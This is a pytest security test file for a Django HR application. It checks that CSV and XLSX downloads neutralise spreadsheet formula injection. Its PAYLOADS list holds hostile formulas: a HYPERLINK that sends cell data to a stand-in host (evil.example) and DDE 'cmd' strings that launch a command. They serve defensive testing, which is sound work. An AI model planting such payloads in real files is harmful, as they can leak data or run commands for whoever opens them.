"""Formula injection: text typed into Koers that starts like a spreadsheet formula
(``=``, ``+``, ``-``, ``@``, a tab or a carriage return) reaches every CSV and XLSX
download as text, never as a formula (``web/page/exports.py``).

Each payload is written into the fields each download shows (unit and person names,
an employee number, what HR should do and HR's note, a login tried), then every cell of
every download is read back.
"""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from koers.access import security
from koers.core.tables import FORMULA_TRIGGERS
from koers.development.models import HrAction
from koers.development.rules import Priority
from koers.development.services import demand as demand_services
from koers.development.services import plans
from tests import factories, personas
from tests.factories import bulk_participations, development, renderings
from tests.factories import participations as cycles
from tests.factories.goals import viewer
from tests.security import figures

pytestmark = pytest.mark.django_db

REPORT = "Formula injection"
PAYLOADS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMATS = ["csv", "xlsx"]


def cells(response, file_format: str) -> list[tuple[str, str]]:
    """Every cell of the download as ``(value, type)``; type ``f`` is a formula."""
    if file_format == "csv":
        text = response.content.decode("utf-8").removeprefix("\ufeff")
        rows = csv.reader(io.StringIO(text, newline=""), delimiter=";")
        return [(value, "s") for row in rows for value in row]
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return [(str(cell.value), cell.data_type) for row in sheet.iter_rows() for cell in row
            if cell.value is not None]


def check(download: str, response, file_format: str, *, typed: bool = True) -> list[str]:
    """The cells a spreadsheet would run, recorded in the report. ``typed``: the
    download shows fields the payloads were written into."""
    assert response.status_code == 200
    found = cells(response, file_format)
    reached = [value for value, _type in found if value.removeprefix("'") in PAYLOADS]
    live = [f"{download}.{file_format}: {value!r}" for value, kind in found
            if kind == "f" or value.startswith(FORMULA_TRIGGERS)]
    figures.record(REPORT, "downloads checked")
    figures.record(REPORT, "cells checked", len(found))
    figures.record(REPORT, "payload cells exported", len(reached))
    figures.record(REPORT, "cells not neutralised", len(live))
    assert reached or not typed, f"{download}.{file_format}: no payload reached the download"
    return live


@pytest.fixture
def p():
    return personas.build()


@pytest.mark.parametrize("file_format", FORMATS)
def test_the_cycle_dashboard_download_writes_formulas_as_text(client, p, file_format):
    for payload in PAYLOADS:
        factories.unit(p.top.organisation, p.department, name=payload)
    cycle = cycles.cycle(p.top.organisation, 2026)
    bulk_participations.participations(cycle, list(p.top.organisation.people.all()))
    figures.record(REPORT, "payloads written", len(PAYLOADS))
    client.force_login(p.hr.user)

    response = client.get(reverse("cycle_dashboard_export",
                                  args=[cycle.pk, p.department.pk, file_format]))

    assert check("cycle dashboard", response, file_format) == []


@pytest.mark.parametrize("file_format", FORMATS)
def test_the_training_demand_download_writes_formulas_as_text(client, p, file_format):
    org = p.employee.organisation
    development.seeded(org)
    unit = factories.unit(org, p.department, name=PAYLOADS[0])
    employee = factories.person(unit, with_user=True, first_name=PAYLOADS[1],
                                last_name=PAYLOADS[2], employee_number=PAYLOADS[3])
    manager = factories.person(unit, manages=unit, with_user=True)
    plan = development.draft(employee, manager)
    item = development.item(plan, manager, "werk-structureren", priority=Priority.MEDIUM_TERM)
    plans.plan_hr_action_add(actor=viewer(manager), item=item, description=PAYLOADS[4],
                             action=development.action(org, "zelfstudie"))
    plans.plan_sign(actor=viewer(manager), plan=plan)
    plans.plan_sign(actor=viewer(employee), plan=plan)
    demand_services.hr_action_arrange(actor=viewer(p.hr), hr_action=HrAction.objects.get(),
                                      note=PAYLOADS[5])
    figures.record(REPORT, "payloads written", len(PAYLOADS))
    client.force_login(p.hr.user)

    live = [
        # The summary shows only the catalogue's names, the detail what was typed.
        *check("training demand", client.get(
            reverse("training_demand_export", args=[org.pk, file_format])), file_format,
            typed=False),
        *check("training demand (detail)", client.get(
            reverse("training_demand_export", args=[org.pk, file_format]),
            {"table": "detail"}), file_format),
    ]

    assert live == []


@pytest.mark.parametrize("file_format", FORMATS)
def test_the_security_log_download_writes_formulas_as_text(client, file_format):
    for n, payload in enumerate(PAYLOADS):
        security.lockout_record(login=payload, ip=f"198.51.100.{n + 1}")
    figures.record(REPORT, "payloads written", len(PAYLOADS))
    client.force_login(factories.superuser(email="root@example.test", password="x"))

    response = renderings.download(client, reverse("security_log_export", args=[file_format]))

    assert check("security log", response, file_format) == []
